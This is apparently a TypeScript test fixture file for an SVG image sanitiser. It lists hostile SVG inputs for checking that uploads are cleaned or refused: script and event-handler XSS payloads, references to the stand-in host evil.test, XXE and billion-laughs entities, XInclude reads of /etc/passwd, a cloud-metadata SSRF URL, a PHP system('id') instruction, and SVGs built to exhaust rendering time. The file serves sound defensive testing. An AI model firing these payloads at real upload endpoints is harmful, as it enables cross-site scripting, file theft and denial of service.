/** Hidden text of every hostile file, which the stored image must not contain. */
export const marker = 'PIEL-HOSTILE-MARKER'

export const svgOf = (inner: string, attributes = 'width="64" height="64"'): Buffer =>
  Buffer.from(
    `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" ${attributes}>` +
      `<!-- ${marker} --><rect width="40" height="30" fill="teal"/>${inner}</svg>`,
  )

/** SVGs that would run in a browser. */
export const activeSvg: string[] = [
  '<script>alert(1)</script>',
  '<script href="https://evil.test/a.js"/>',
  '<script type="text/ecmascript"><![CDATA[alert(document.domain)]]></script>',
  '<g onload="alert(1)"><rect width="9" height="9"/></g>',
  '<rect width="9" height="9" onmouseover="fetch(\'https://evil.test\')"/>',
  '<a href="javascript:alert(1)"><text y="20">PIEL</text></a>',
  '<a xlink:href="javascript:alert(1)"><rect width="9" height="9"/></a>',
  '<foreignObject width="60" height="60"><body xmlns="http://www.w3.org/1999/xhtml"><script>1</script></body></foreignObject>',
  '<foreignObject width="60" height="60"><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.test"/></foreignObject>',
  '<use href="https://evil.test/a.svg#a"/>',
  '<use xlink:href="file:///etc/passwd#a"/>',
  '<use href="data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PjE8L3NjcmlwdD48L3N2Zz4=#a"/>',
  '<style>@import url(https://evil.test/a.css); rect { fill: url(https://evil.test/a.svg#b) }</style>',
  '<style>* { background: url("file:///etc/passwd"); font-family: "x"; src: url(http://169.254.169.254/) }</style>',
  '<animate attributeName="href" values="javascript:alert(1)"/>',
  '<set attributeName="onload" to="alert(1)"/>',
  '<handler type="application/ecmascript">alert(1)</handler>',
  '<listener event="load" handler="#a"/>',
  '<rect width="9" height="9" fill="url(https://evil.test/paint.svg#p)"/>',
  '<rect width="9" height="9" filter="url(file:///etc/passwd#f)"/>',
  '<text y="20">&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;</text>',
  `<metadata><x:xmpmeta xmlns:x="adobe:ns:meta/">${marker}</x:xmpmeta></metadata>`,
  `<title>${marker}</title><desc>${marker}</desc>`,
  '<embed src="https://evil.test"/><object data="https://evil.test"/>',
  '<cursor href="https://evil.test/c.png"/>',
]

/** SVGs that are refused before they are drawn. */
export const refusedSvg: Buffer[] = [
  ...[
    '<!DOCTYPE svg>',
    '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">',
    '<!DOCTYPE svg SYSTEM "https://evil.test/a.dtd">',
    '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
    '<!DOCTYPE svg [<!ENTITY % p SYSTEM "https://evil.test/p"> %p;]>',
    `<!DOCTYPE svg [<!ENTITY a "lol">${[...'bcdefghij'].map((name, i) => `<!ENTITY ${name} "${`&${'abcdefghij'[i]};`.repeat(10)}">`).join('')}]>`,
    '<!doctype svg>',
    '<?xml version="1.0"?><!DOCTYPE svg>',
    '<!-- first --><!DOCTYPE svg>',
    '<?xml-stylesheet href="https://evil.test/a.xsl" type="text/xsl"?>',
    '<!-- first --><?php system("id") ?>',
    '<?xml version="1.0" encoding="UTF-7"?>',
    '<?xml version="1.0" encoding="ISO-8859-1"?>',
    "<?xml version='1.0' encoding='utf-16'?>",
  ].map((prolog) => Buffer.concat([Buffer.from(prolog), svgOf('&j;')])),
  ...[
    '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>',
    '<include xmlns="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>',
    '<ñ:include xmlns:ñ="http://www.w3.org/2001/XIncl&#117;de" href="/etc/passwd"/>',
    '<image href="file:///etc/passwd" width="9" height="9"/>',
    '<image xlink:href="https://evil.test/a.png" width="9" height="9"/>',
    '<image href="data:image/svg+xml;base64,PHN2Zy8+" width="9" height="9"/>',
    '<feImage href="https://evil.test/a.png"/>',
    '<s:image xmlns:s="http://www.w3.org/2000/svg" href="data:,x"/>',
  ].map((inner) => svgOf(inner)),
]

/** Ten levels that each repeat the level below ten times. */
function copies(levels: number, times: number): string {
  const level = (i: number) => `<g id="l${i}">${`<use href="#l${i - 1}"/>`.repeat(times)}</g>`
  const all = Array.from({ length: levels }, (_, i) => level(i + 1)).join('')
  return `<defs><rect id="l0" width="1" height="1"/>${all}</defs><use href="#l${levels}"/>`
}

const wide = 'width="6000" height="6000"'
const filters = (count: number, of: string) =>
  Array.from({ length: count }, (_, i) => `<filter id="f${i}">${of}</filter><rect ${wide} filter="url(#f${i})"/>`).join(
    '',
  )

/** SVGs that take longer than the timeout. */
export const heavySvg: Buffer[] = [
  svgOf(copies(9, 10)),
  svgOf(filters(30, '<feTurbulence baseFrequency="0.9" numOctaves="200"/>'), wide),
  svgOf(`<path d="M0 0 ${'L64 64 L0 1 '.repeat(300_000)}" stroke="red" stroke-dasharray="0.001"/>`),
  svgOf(`${'<g>'.repeat(200_000)}${'</g>'.repeat(200_000)}`),
  svgOf(`<text>${'ñ'.repeat(1_500_000)}</text>`),
]
